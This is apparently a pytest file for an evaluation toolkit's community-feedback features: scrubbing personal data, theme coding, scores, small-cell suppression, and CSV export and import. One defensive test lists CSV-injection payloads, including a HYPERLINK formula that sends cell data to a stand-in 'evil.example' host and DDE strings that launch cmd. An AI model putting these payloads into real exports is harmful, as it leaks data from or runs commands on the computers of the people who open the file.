"""Community feedback: scrubbing, theme coding quality, scores, suppression, coded comments."""

from __future__ import annotations

import importlib.util
import re
import shutil

import numpy as np
import pandas as pd
import pytest

from evalkit._assets import asset_path
from evalkit.demo import demo_config, generate
from evalkit.errors import ConfigError, IngestError
from evalkit.feedback import (
    Scrubber,
    code_themes,
    community_scores,
    corrected_codes,
    equity_breakdown,
    export_codes,
    feedback_tables,
    final_codes,
    import_codes,
    load_codebook,
    read_comments,
    read_names,
    scrub,
)
from evalkit.instruments import load_instrument
from evalkit.project import create_project
from evalkit.store import Batch, ingest, read_table
from tests.conftest import ROOT

CODEBOOK = ROOT / "analyses" / "themes.yml"
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
PHONE = re.compile(r"\d{3}\D{0,2}\d{3}\D?\d{4}")


# Scrubbing ---------------------------------------------------------------------------------
@pytest.mark.parametrize(("text", "expected"), [
    # names that are also common words: only the capitalized name goes
    ("I hope Hope calls back, she gave me hope.", "I hope [name] calls back, she gave me hope."),
    ("Will said he will call. Grace was kind; by the grace of god.",
     "[name] said he will call. [name] was kind; by the grace of god."),
    ("See you May 5, May was great.", "See you May 5, [name] was great."),
    # full names, parts of names, accents either way, apostrophes
    ("José Núñez helped, then jose nunez and Nuñez again.",
     "[name] helped, then [name] and [name] again."),
    ("Mrs O’Brien and mrs o'brien", "Mrs [name] and mrs [name]"),
    ("Ma\u200bria was there", "[name] was there"),  # a zero-width space cannot hide a name
    # emails, with plus signs and spelled-out forms
    ("write to maria.lopez+intake@clinic.example.org.", "write to [email]."),
    ("or J_Smith@Example.COM, or maria (at) mail (dot) com", "or [email], or [email]"),
    # phone formats
    ("Call (555) 123-4567, 555.123.4567 or 555 123 4567", "Call [phone], [phone] or [phone]"),
    ("+1 555-123-4567 ext. 22, 1-800-555-0199, +44 20 7946 0958", "[phone], [phone], [phone]"),
    ("text 5551234567 or 123-4567", "text [phone] or [phone]"),
    ("fullwidth ５５５–１２３–４５６７", "fullwidth [phone]"),
    # street addresses
    ("I live at 1234 N Main St. Apt 5B now", "I live at [address] now"),
    ("my place, 45 oak street, near the bus", "my place, [address], near the bus"),
    ("send to P.O. Box 77 or Calle Mayor 12", "send to [address] or [address]"),
    # organizations
    ("The Harbor Food Bank helped; a food bank is good", "The [organization] helped; a food "
                                                         "bank is good"),
])
def test_scrub(text, expected):
    names = ["Hope Rivera", "Will Chen", "Grace Park", "May Lee", "José Núñez", "Ana O'Brien",
             "Maria Lopez"]
    assert scrub(text, names=names, organizations=["Harbor Food Bank"]) == expected


@pytest.mark.parametrize("text", [
    "Waited 3 weeks on the way home and took 2 buses down the road.",
    "Appointment on 2025-01-06 at 10:30, it cost $1,200.50 for 12 visits in 2024 2025.",
    "I hope things get better. Will they call? They said may be.",
    "The food bank, the shelter and the clinic.",
    "Ñandú café — naïve résumé 😊",
])
def test_scrub_leaves_ordinary_text_alone(text):
    out = scrub(text, names=["Hope Rivera", "Maria Lopez"])
    # "Will they call?" starts a sentence with a capital: scrubbed only if Will is a name
    assert out == text


def test_scrubber_is_reusable_and_ignores_non_text():
    s = Scrubber(("Maria Lopez",), ("Harbor Food Bank",))
    assert s("Maria at Harbor Food Bank") == "[name] at [organization]"
    assert s(None) is None


def test_read_names(tmp_path):
    f = tmp_path / "names.txt"
    f.write_text("# staff\nMaria Lopez\n\n  José Núñez \n", encoding="utf-8")
    assert read_names(f) == ["Maria Lopez", "José Núñez"]
    with pytest.raises(ConfigError, match="names file not found"):
        read_names(tmp_path / "nope.txt")


# Theme coding ------------------------------------------------------------------------------
def test_codebook_examples_are_coded_with_their_theme():
    book = load_codebook(CODEBOOK)
    for theme in book.themes:
        assert theme.examples, theme.id
        comments = pd.DataFrame({"response_id": range(len(theme.examples)),
                                 "text": list(theme.examples)})
        coded = code_themes(comments, codebook=book)
        hit = set(coded.loc[coded["theme"] == theme.id, "response_id"])
        assert hit == set(range(len(theme.examples))), theme.id


def test_codebook_covers_every_demo_comment_with_a_theme():
    from evalkit.demo import _COMMENTS

    book = load_codebook(CODEBOOK)
    texts = _COMMENTS["positive"] + _COMMENTS["negative"]
    coded = code_themes(pd.DataFrame({"response_id": range(len(texts)), "text": texts}),
                        codebook=book)
    assert set(coded["response_id"]) == set(range(len(texts)))


def _benchmark():
    path = ROOT / "benchmarks" / "themes_quality.py"
    spec = importlib.util.spec_from_file_location("themes_quality", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_theme_coding_precision_and_recall():
    results = _benchmark().evaluate(CODEBOOK)
    for split, (table, _) in results.items():
        micro = table.iloc[-1]
        print(f"themes {split}: precision {micro['precision']:.2f} recall "
              f"{micro['recall']:.2f} F1 {micro['f1']:.2f} ({int(micro['n_reference'])} codes)")
    dev = results["dev"][0].iloc[-1]
    holdout = results["holdout"][0].iloc[-1]
    # the demo's own comments: the codebook was written for them
    assert dev["precision"] == 1.0 and dev["recall"] == 1.0
    # comments the codebook was not tuned on (first run: precision 0.93, recall 0.77)
    assert holdout["precision"] >= 0.9 and holdout["recall"] >= 0.75


def test_codebook_errors_name_the_key(tmp_path):
    bad = tmp_path / "themes.yml"
    bad.write_text("themes:\n  - {id: food, label: Food, patterns: ['(unclosed']}\n")
    with pytest.raises(ConfigError, match=r"themes\[0\]\.patterns: .*not a valid regular"):
        load_codebook(bad)
    bad.write_text("themes:\n  - {id: food, label: Food}\n")
    with pytest.raises(ConfigError, match="needs at least one keyword or pattern"):
        load_codebook(bad)


# Scores and equity -------------------------------------------------------------------------
@pytest.fixture(scope="module")
def instrument():
    return load_instrument(asset_path("surveys") / "community_feedback.yaml")


def test_community_scores_ci(instrument):
    data = pd.DataFrame({"site_id": "S1", "wave": "baseline", "CF04": [2.0, 4.0, 3.0],
                         "CF05": [2.0, 4.0, 3.0]})
    out = community_scores(data, instrument=instrument, scales=["needs_met"])
    row = out[out["level"] == "site"].iloc[0]
    # by hand: mean 3, sd 1, se 1/sqrt(3); Student t with 2 df has the closed-form quantile
    # t_p = (2p - 1) / sqrt(2 p (1 - p)), so t(0.975, 2) = 0.95 / sqrt(0.04875) = 4.30265...
    half = 0.95 / np.sqrt(2 * 0.975 * 0.025) / np.sqrt(3)
    assert (row["n"], row["mean"], row["sd"]) == (3, 3.0, 1.0)
    assert row["ci_low"] == pytest.approx(3 - half, abs=1e-12)
    assert row["ci_high"] == pytest.approx(3 + half, abs=1e-12)


def test_equity_breakdown_suppresses_small_cells(instrument):
    # 20 respondents: language English 15, Spanish 4, Another 1; age all stated.
    n = 20
    data = pd.DataFrame({"site_id": "S1", "wave": "baseline",
                         **{f"CF0{i}": 4.0 for i in range(1, 9)},
                         "language": [1.0] * 15 + [2.0] * 4 + [3.0],
                         "age_group": [1.0] * 12 + [2.0] * 8})
    data["CF02"] = 2.0
    out = equity_breakdown(data, instrument=instrument, threshold=5, waves=["baseline"])
    site = out[out["level"] == "site"].set_index(["variable", "group"])
    lang = site.loc["language"]
    assert lang.loc["English", "n"] == 15 and not lang.loc["English", "suppressed"]
    assert lang.loc["Spanish", "suppressed"] and pd.isna(lang.loc["Spanish", "n"])
    assert lang.loc["Another language", "suppressed"]
    assert pd.isna(lang.loc["Spanish", "mean"])
    assert lang.loc["Not stated", "n"] == 0  # zero is not sensitive
    # complementary suppression: one small cell would be recoverable from the total of 20
    data2 = data.assign(language=[1.0] * 12 + [2.0] * 6 + [3.0] * 2)
    out2 = equity_breakdown(data2, instrument=instrument, threshold=5, waves=["baseline"])
    lang2 = out2[out2["level"] == "site"].set_index(["variable", "group"]).loc["language"]
    assert lang2["suppressed"].tolist() == [False, True, True, False]
    assert lang2.loc["English", "n"] == 12
    assert int(site.loc["age_group", "n"].sum()) == n


# Coded comments: export, correct, import ---------------------------------------------------
@pytest.fixture(scope="module")
def demo_store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("feedback-demo")
    demo = generate(seed=5, n_sites=3)
    cfg = create_project(folder, config=demo_config(demo))
    ingest(cfg.store_path, demo.batch, source="demo", kind="demo")
    return cfg


@pytest.fixture()
def store(demo_store, tmp_path):
    copy = tmp_path / "evalkit.duckdb"
    shutil.copyfile(demo_store.store_path, copy)
    return copy


def _snapshot(db):
    return read_table(db, "SELECT * FROM comment_codes ORDER BY ALL")


def test_export_import_round_trip(store, tmp_path):
    book = load_codebook(CODEBOOK)
    out = tmp_path / "coding.csv"
    exported = export_codes(store, out, codebook=book, scrubber=Scrubber())
    sheet = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert exported.rows == len(sheet) == len(read_comments(store)) and exported.corrected == 0
    assert list(sheet.columns) == ["response_id", "site_id", "wave", "comment",
                                   "suggested_themes", "themes", "reviewed"]
    # a coder corrects two rows, confirms one, and clears one
    sheet.loc[0, "themes"] = "respect; waiting"
    sheet.loc[1, "themes"] = "Food"
    sheet.loc[2, "reviewed"] = "yes"
    sheet.loc[3, "themes"] = ""
    sheet.to_csv(out, index=False)
    first = import_codes(store, out, codebook=book)
    assert (first.rows, first.stored, first.inserted, first.updated, first.unchanged) == (
        len(sheet), 4, 4, 0, 0)
    stored = _snapshot(store)
    # corrected codes win over the suggestions
    comments = read_comments(store)
    codes = final_codes(comments, code_themes(comments, codebook=book), corrected_codes(store))
    got = codes.groupby("response_id")["theme"].agg(sorted)
    assert got[sheet.loc[0, "response_id"]] == ["respect", "waiting"]
    assert got[sheet.loc[1, "response_id"]] == ["food"]
    assert sheet.loc[3, "response_id"] not in got.index  # no theme applies
    assert set(codes.loc[codes["origin"] == "corrected", "response_id"]) == set(
        sheet.loc[[0, 1, 2], "response_id"])
    # re-importing the same file changes nothing
    again = import_codes(store, out, codebook=book)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 4)
    pd.testing.assert_frame_equal(_snapshot(store), stored)
    # a fresh export shows the corrections, marked reviewed; importing it changes nothing
    out2 = tmp_path / "coding2.csv"
    assert export_codes(store, out2, codebook=book, scrubber=Scrubber()).corrected == 4
    sheet2 = pd.read_csv(out2, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert sheet2.loc[0, ["themes", "reviewed"]].tolist() == ["respect; waiting", "yes"]
    assert import_codes(store, out2, codebook=book).unchanged == 4
    pd.testing.assert_frame_equal(_snapshot(store), stored)
    # a changed correction is updated
    sheet2.loc[1, "themes"] = "food; housing"
    sheet2.to_csv(out2, index=False)
    third = import_codes(store, out2, codebook=book)
    assert (third.inserted, third.updated, third.unchanged) == (0, 1, 3)


def test_export_neutralises_spreadsheet_formulas(tmp_path):
    """OWASP CSV injection: a comment typed as a formula is shown as text, not run."""
    demo = generate(seed=5, n_sites=3)
    cfg = create_project(tmp_path / "p", config=demo_config(demo))
    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 was my score", "\t=1+2", "\r=1+2",
                "  =1+1 with spaces in front"]
    responses = [{"response_id": f"-r{i}" if i == 0 else f"r{i}", "instrument": "community",
                  "wave": "baseline", "site_id": "S01"} for i in range(len(formulas))]
    answers = [{"response_id": r["response_id"], "item": "COMMENT", "text": t}
               for r, t in zip(responses, formulas, strict=True)]
    batch = Batch.from_records(sites=[{"site_id": "S01", "modality": "coaching"}],
                               responses=responses, answers=answers)
    ingest(cfg.store_path, batch, source="test")
    out = tmp_path / "coding.csv"
    book = load_codebook(CODEBOOK)
    export_codes(cfg.store_path, out, codebook=book, scrubber=Scrubber())
    sheet = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for column in sheet.columns:
        for cell in sheet[column]:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    comments = sorted(sheet["comment"])
    assert "'=HYPERLINK(" in "".join(comments) and "'+cmd|" in "".join(comments)
    assert "'-r0" in set(sheet["response_id"])
    # the coders' sheet imports back: the quote added to a response id is removed again
    sheet["reviewed"] = "yes"
    sheet.to_csv(out, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    assert import_codes(cfg.store_path, out, codebook=book).stored == len(formulas)
    assert "-r0" in set(corrected_codes(cfg.store_path)["response_id"])


def test_import_reports_every_problem_and_changes_nothing(store, tmp_path):
    book = load_codebook(CODEBOOK)
    rid = read_comments(store)["response_id"].iloc[0]
    bad = tmp_path / "bad.csv"
    pd.DataFrame({"response_id": [rid, rid, "nope", ""],
                  "themes": ["food", "snacks", "food", "food"],
                  "reviewed": ["yes", "maybe", "", ""]}).to_csv(bad, index=False)
    with pytest.raises(IngestError) as exc:
        import_codes(store, bad, codebook=book)
    assert str(exc.value) == (
        f"{bad}: 5 problem(s); nothing was imported:\n"
        f"  line 3: response_id {rid!r} appears more than once\n"
        f"  line 3: theme(s) ['snacks'] not in the codebook; themes are {book.ids}\n"
        "  line 3: reviewed 'maybe' is not yes or no\n"
        "  line 4: response_id 'nope' is not a comment in the store\n"
        "  line 5: response_id is empty")
    assert corrected_codes(store).empty
    with pytest.raises(IngestError, match=r"missing column\(s\) \['themes'\]"):
        pd.DataFrame({"response_id": [rid]}).to_csv(bad, index=False)
        import_codes(store, bad, codebook=book)


# Result tables -----------------------------------------------------------------------------
def test_feedback_tables_on_demo(demo_store):
    cfg = demo_store
    tables = feedback_tables(cfg.store_path, cfg, CODEBOOK)
    assert set(tables) == {"feedback_scores", "feedback_equity", "feedback_themes",
                           "feedback_quotes", "feedback_codebook"}
    scores = tables["feedback_scores"]
    site = scores[(scores["level"] == "site") & (scores["scale"] == "experience")]
    assert len(site) == 3 * 2 and (site["ci_low"] < site["mean"]).all()
    equity = tables["feedback_equity"]
    shown = equity[~equity["suppressed"]]
    k = cfg.reports.suppression_threshold
    assert ((shown["n"] == 0) | (shown["n"] >= k)).all()
    assert equity["suppressed"].any()
    themes = tables["feedback_themes"]
    coll = themes[(themes["level"] == "collaborative")]
    assert set(coll["n_comments"]) <= {len(c) for _, c in
                                       read_comments(cfg.store_path).groupby("wave")}
    assert (tables["feedback_quotes"].groupby(["level", "site_id", "theme"], dropna=False)
            .size() <= 3).all()


def test_quotes_are_scrubbed(tmp_path):
    """Comments full of personal data never reach the quotes table unscrubbed."""
    demo = generate(seed=5, n_sites=3)
    cfg = create_project(tmp_path / "p", config=demo_config(demo))
    texts = [
        "Maria Lopez at the Harbor Food Bank fixed my paperwork, call her at 555-201-3344.",
        "Email maria.lopez+food@harbor.example.org about the food bank, she is great.",
        "The bus to 1200 W Elm Street takes forever, ask José Núñez at (555) 201 9988.",
        "Hope from the clinic explained my medicines, I hope she stays, text 555.201.7766.",
    ]
    responses = [{"response_id": f"r{i}", "instrument": "community", "wave": "baseline",
                  "site_id": "S01"} for i in range(len(texts))]
    answers = [{"response_id": f"r{i}", "item": "COMMENT", "text": t}
               for i, t in enumerate(texts)]
    answers += [{"response_id": f"r{i}", "item": "CF01", "value": 4.0}
                for i in range(len(texts))]
    batch = Batch.from_records(
        sites=[{"site_id": "S01", "modality": "coaching"}],
        organizations=[{"org_id": "S01-O01", "site_id": "S01", "name": "Harbor Food Bank",
                        "sector": "community_based_orgs"}],
        responses=responses, answers=answers)
    ingest(cfg.store_path, batch, source="test")
    tables = feedback_tables(cfg.store_path, cfg, CODEBOOK,
                             names=["Maria Lopez", "José Núñez", "Hope Adams"])
    quotes = tables["feedback_quotes"]["quote"].tolist()
    assert len(quotes) >= len(texts)
    for q in quotes:
        assert not EMAIL.search(q) and not PHONE.search(q), q
        assert not re.search(r"Maria|Lopez|Jos[eé]|N[uú][nñ]ez|Hope |Harbor|Elm", q), q
    assert any("[organization]" in q and "[phone]" in q for q in quotes)
